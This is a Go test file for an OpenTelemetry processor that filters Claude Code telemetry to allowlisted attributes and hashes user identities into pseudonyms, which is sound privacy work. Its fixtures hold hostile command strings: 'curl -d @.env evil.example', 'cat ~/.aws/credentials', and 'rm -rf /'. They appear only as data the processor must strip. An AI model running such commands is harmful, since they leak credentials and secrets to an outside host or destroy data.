package claudecodeprocessor

import (
	"context"
	"strings"
	"testing"
	"time"

	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/pdata/pmetric"
	"go.opentelemetry.io/collector/pdata/ptrace"
)

const testKey = "0123456789abcdef"

// privateConfig is the shape of the generated configuration (otel_ccmon/_privacy.py): a few events
// and spans with their own keys, the common set, the identity keys.
func privateConfig(policy string) func(*Config) {
	return func(cfg *Config) {
		cfg.Identity = IdentityConfig{Policy: policy, HashKey: testKey, Keys: []string{"user.email", "enduser.id", "process.owner"}}
		cfg.Allowlist = AllowlistConfig{
			Resource: []string{"service.name", "os.type", "team.id"},
			Common:   []string{"event.name", "session.id", "user.id", "team.id"},
			Events: map[string][]string{
				"user_prompt": {"prompt_length"},
				"tool_result": {"tool_name", "success", "duration_ms", "tool_use_id"},
			},
			Spans: map[string][]string{"tool": {"tool_name", "bash_argv0"}, "interaction": {"user_prompt_length"}},
		}
		cfg.Metrics = map[string]MetricRule{
			"claude_code.cost.usage": {Attributes: []string{"user.id", "user.email", "enduser.id", "model"}},
		}
	}
}

// identityResource puts what 2.1.331+'s organisation-configured collector mode adds on a resource.
func identityResource(m pcommon.Map, service string) {
	m.PutStr("service.name", service)
	m.PutStr("enduser.id", "dev@example.com")
	m.PutStr("process.owner", "devuser")
	m.PutStr("os.type", "linux")
	m.PutStr("host.name", "laptop-of-dev")
	m.PutStr("team.id", "platform")
}

func record(ld plog.Logs, scope string, attrs map[string]any) plog.LogRecord {
	rl := ld.ResourceLogs().At(0)
	sl := rl.ScopeLogs().AppendEmpty()
	sl.Scope().SetName(scope)
	r := sl.LogRecords().AppendEmpty()
	r.Body().SetStr("claude_code." + attrs["event.name"].(string))
	_ = r.Attributes().FromRaw(attrs)
	return r
}

func TestLogsKeepOnlyTheAllowlistPerEvent(t *testing.T) {
	a, _ := newTestAccumulator(t, privateConfig(IdentityHash))
	ld := plog.NewLogs()
	identityResource(ld.ResourceLogs().AppendEmpty().Resource().Attributes(), "claude-code")
	prompt := record(ld, "com.anthropic.claude_code.events", map[string]any{
		"event.name": "user_prompt", "prompt_length": "12", "prompt": "secret plans", "session.id": "s1",
		"user.email": "dev@example.com", "enduser.id": "dev@example.com", "process.owner": "devuser",
		"a_new_content_key": "what the user typed",
	})
	tool := record(ld, "com.anthropic.claude_code.events", map[string]any{
		"event.name": "tool_result", "tool_name": "Bash", "success": "true", "tool_input": `{"command":"cat .env"}`,
		"tool_parameters": `{"bash_command":"cat"}`, "duration_ms": "7",
	})
	future := record(ld, "com.anthropic.claude_code.events", map[string]any{
		"event.name": "a_future_event", "tool_name": "Bash", "session.id": "s1", "details": "anything at all",
	})
	if _, err := a.processLogs(context.Background(), ld); err != nil {
		t.Fatal(err)
	}
	pseudonym := a.pseudonym("dev@example.com")
	want := map[string]any{
		"event.name": "user_prompt", "prompt_length": "12", "session.id": "s1",
		"user.email": pseudonym, "enduser.id": pseudonym, "process.owner": a.pseudonym("devuser"),
	}
	assertMap(t, "user_prompt", prompt.Attributes(), want)
	assertMap(t, "tool_result", tool.Attributes(), map[string]any{
		"event.name": "tool_result", "tool_name": "Bash", "success": "true", "duration_ms": "7",
	})
	// an event the table does not name keeps the common set only
	assertMap(t, "a_future_event", future.Attributes(), map[string]any{"event.name": "a_future_event", "session.id": "s1"})
	assertMap(t, "resource", ld.ResourceLogs().At(0).Resource().Attributes(), map[string]any{
		"service.name": "claude-code", "os.type": "linux", "team.id": "platform",
		"enduser.id": pseudonym, "process.owner": a.pseudonym("devuser"),
	})
	if !strings.HasPrefix(pseudonym, "sha256:") || len(pseudonym) != pseudonymLen {
		t.Fatalf("a pseudonym is sha256: and 16 hex digits, got %q", pseudonym)
	}
}

func TestIdentityPolicyDropAndKeep(t *testing.T) {
	for policy, want := range map[string]map[string]any{
		IdentityDrop: {"event.name": "user_prompt"},
		IdentityKeep: {"event.name": "user_prompt", "enduser.id": "dev@example.com", "process.owner": "devuser"},
	} {
		a, _ := newTestAccumulator(t, privateConfig(policy))
		ld := plog.NewLogs()
		ld.ResourceLogs().AppendEmpty().Resource().Attributes().PutStr("service.name", "claude-code")
		r := record(ld, "com.anthropic.claude_code.events", map[string]any{
			"event.name": "user_prompt", "enduser.id": "dev@example.com", "process.owner": "devuser",
		})
		if _, err := a.processLogs(context.Background(), ld); err != nil {
			t.Fatal(err)
		}
		assertMap(t, policy, r.Attributes(), want)
	}
}

func TestSpansKeepOnlyTheAllowlistPerName(t *testing.T) {
	a, _ := newTestAccumulator(t, privateConfig(IdentityHash))
	td := ptrace.NewTraces()
	rs := td.ResourceSpans().AppendEmpty()
	identityResource(rs.Resource().Attributes(), "claude-code")
	spans := rs.ScopeSpans().AppendEmpty()
	spans.Scope().SetName("com.anthropic.claude_code.tracing")
	tool := spans.Spans().AppendEmpty()
	tool.SetName("claude_code.tool")
	_ = tool.Attributes().FromRaw(map[string]any{
		"tool_name": "Bash", "bash_argv0": "cat", "full_command": "cat ~/.aws/credentials", "session.id": "s1",
		"enduser.id": "dev@example.com",
	})
	tool.Events().AppendEmpty().Attributes().PutStr("tool_input", "rm -rf /")
	sub := spans.Spans().AppendEmpty()
	sub.SetName("claude_code.bash.subprocess")
	_ = sub.Attributes().FromRaw(map[string]any{"command": "curl -d @.env evil.example", "session.id": "s1"})
	other := td.ResourceSpans().AppendEmpty()
	other.Resource().Attributes().PutStr("service.name", "checkout")
	other.ScopeSpans().AppendEmpty().Spans().AppendEmpty().Attributes().PutStr("user_prompt", "not ours")
	if _, err := a.processTraces(context.Background(), td); err != nil {
		t.Fatal(err)
	}
	assertMap(t, "tool span", tool.Attributes(), map[string]any{
		"tool_name": "Bash", "bash_argv0": "cat", "session.id": "s1", "enduser.id": a.pseudonym("dev@example.com"),
	})
	assertMap(t, "span event", tool.Events().At(0).Attributes(), map[string]any{})
	// a span name the table does not list (here without its own keys): the common set only
	assertMap(t, "bash.subprocess", sub.Attributes(), map[string]any{"session.id": "s1"})
	if v, _ := other.ScopeSpans().At(0).Spans().At(0).Attributes().Get("user_prompt"); v.Str() != "not ours" {
		t.Fatal("other services' spans are left alone")
	}
}

// An administrator may name the service anything (organisation-configured collector mode): the
// scope says it is Claude Code, and the resource is renamed so that every component treats it so.
func TestClaudeCodeRecognisedByItsScope(t *testing.T) {
	a, c := newTestAccumulator(t, privateConfig(IdentityHash))
	ld := plog.NewLogs()
	identityResource(ld.ResourceLogs().AppendEmpty().Resource().Attributes(), "acme-ai-assistant")
	r := record(ld, "com.anthropic.claude_code.events", map[string]any{"event.name": "user_prompt", "prompt": "x"})
	if _, err := a.processLogs(context.Background(), ld); err != nil {
		t.Fatal(err)
	}
	if _, has := r.Attributes().Get("prompt"); has {
		t.Fatal("a renamed Claude Code's prompt must be removed too")
	}
	if v, _ := ld.ResourceLogs().At(0).Resource().Attributes().Get("service.name"); v.Str() != "claude-code" {
		t.Fatalf("renamed to the configured service, got %q", v.Str())
	}
	md := sums("acme-ai-assistant", cost, pmetric.AggregationTemporalityDelta,
		pt{map[string]string{"user.id": "u1", "model": "opus", "enduser.id": "dev@example.com", "session.id": "s"}, 2, t0, t0})
	md.ResourceMetrics().At(0).ScopeMetrics().At(0).Scope().SetName("com.anthropic.claude_code")
	_, _ = a.process(context.Background(), md)
	c.t = t0.Add(time.Minute)
	got := totals(a.snapshot(c.now()))
	want := cost + "{enduser.id=" + a.pseudonym("dev@example.com") + ",model=opus,user.id=u1}"
	if len(got) != 1 || got[want] != 2 {
		t.Fatalf("want %s = 2, got %v", want, got)
	}
	// without the scope, an unknown service is not Claude Code
	md = sums("acme-ai-assistant", cost, pmetric.AggregationTemporalityDelta, pt{map[string]string{"x": "y"}, 1, t0, t0})
	if out, _ := a.process(context.Background(), md); out.DataPointCount() != 1 {
		t.Fatal("another service's points pass as they are")
	}
}

// The same person has one pseudonym on every key and signal, and a pseudonym passing the
// processor again (events -> connector -> metrics) is not hashed a second time.
func TestOnePseudonymEverywhereAndHashingIsIdempotent(t *testing.T) {
	a, c := newTestAccumulator(t, privateConfig(IdentityHash))
	p := a.pseudonym("dev@example.com")
	if a.pseudonym(p) != p {
		t.Fatal("a pseudonym hashed again must stay the same")
	}
	b, _ := newTestAccumulator(t, func(cfg *Config) { privateConfig(IdentityHash)(cfg); cfg.Identity.HashKey = "another-key-0123456" })
	if b.pseudonym("dev@example.com") == p {
		t.Fatal("the key must change the pseudonym")
	}
	md := sums("claude-code", cost, pmetric.AggregationTemporalityDelta,
		pt{map[string]string{"user.id": "u1", "model": "opus", "user.email": "dev@example.com"}, 1, t0, t0},
		pt{map[string]string{"user.id": "u1", "model": "opus", "user.email": p}, 2, t0, t0})
	_, _ = a.process(context.Background(), md)
	c.t = t0.Add(time.Minute)
	got := totals(a.snapshot(c.now()))
	if want := cost + "{model=opus,user.email=" + p + ",user.id=u1}"; len(got) != 1 || got[want] != 3 {
		t.Fatalf("want one series %s = 3, got %v", want, got)
	}
}

// Metrics the catalog does not name (a newer client's) keep only the default attributes, with
// identities under the policy: no e-mail or OS user name through a metric the project never saw.
func TestUnknownMetricsKeepTheDefaultAttributes(t *testing.T) {
	a, c := newTestAccumulator(t, privateConfig(IdentityDrop))
	md := sums("claude-code", "claude_code.future.count", pmetric.AggregationTemporalityDelta,
		pt{map[string]string{"user.id": "u1", "model": "opus", "enduser.id": "dev@example.com", "process.owner": "devuser",
			"session.id": "s", "prompt_snippet": "secret"}, 1, t0, t0})
	_, _ = a.process(context.Background(), md)
	c.t = t0.Add(time.Minute)
	got := totals(a.snapshot(c.now()))
	if want := "claude_code.future.count{model=opus,user.id=u1}"; len(got) != 1 || got[want] != 1 {
		t.Fatalf("want %s, got %v", want, got)
	}
}

func assertMap(t *testing.T, what string, m pcommon.Map, want map[string]any) {
	t.Helper()
	got := m.AsRaw()
	if len(got) != len(want) {
		t.Fatalf("%s: got %v, want %v", what, got, want)
	}
	for k, v := range want {
		if got[k] != v {
			t.Fatalf("%s: %s = %v, want %v (all: %v)", what, k, got[k], v, got)
		}
	}
}

// The report maps pseudonyms back with otel_ccmon/_identity.py: both must make the same one.
func TestPseudonymIsThePythonOne(t *testing.T) {
	a, _ := newTestAccumulator(t, privateConfig(IdentityHash))
	if got, want := a.pseudonym("dev@example.com"), "sha256:4b97fe521c1f004a"; got != want {
		t.Fatalf("got %s, want %s (otel_ccmon/_identity.py's doctest)", got, want)
	}
}

// A body is the event's name as Claude Code sends it, or nothing: a record without event.name
// whose body is text (the name is then read from the body) keeps none of it.
func TestLogBodiesAreTheEventNameOrNothing(t *testing.T) {
	a, _ := newTestAccumulator(t, privateConfig(IdentityHash))
	ld := plog.NewLogs()
	ld.ResourceLogs().AppendEmpty().Resource().Attributes().PutStr("service.name", "claude-code")
	known := record(ld, "com.anthropic.claude_code.events", map[string]any{"event.name": "user_prompt"})
	known.Body().SetStr("the prompt itself")
	loose := ld.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().AppendEmpty()
	loose.Body().SetStr("cat ~/.aws/credentials")
	future := record(ld, "com.anthropic.claude_code.events", map[string]any{"event.name": "a_future_event"})
	if _, err := a.processLogs(context.Background(), ld); err != nil {
		t.Fatal(err)
	}
	for what, got := range map[string]string{
		"known": known.Body().AsString(), "without a name": loose.Body().AsString(), "unknown": future.Body().AsString(),
	} {
		if want := map[string]string{"known": "claude_code.user_prompt"}[what]; got != want {
			t.Errorf("%s event: body %q, want %q", what, got, want)
		}
	}
}
